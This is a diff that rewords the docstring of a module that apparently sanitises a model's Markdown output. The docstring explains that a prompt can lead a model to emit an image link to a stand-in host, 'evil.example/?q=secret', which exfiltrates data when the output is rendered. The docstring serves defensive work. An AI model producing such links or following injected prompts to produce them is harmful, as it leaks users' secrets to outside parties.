@@ -1,4 +1,4 @@
-"""Makes a model's Markdown safe to show: an image in it would make the reader's browser call its address.
+"""Makes a model's Markdown safe to show: for an image, the reader's browser would call the address it names.
 
 A prompt can talk a model into ``![x](https://evil.example/?q=secret)``; shown as it is, the secret is gone.
 Raw HTML is not handled here: it must never be rendered at all.
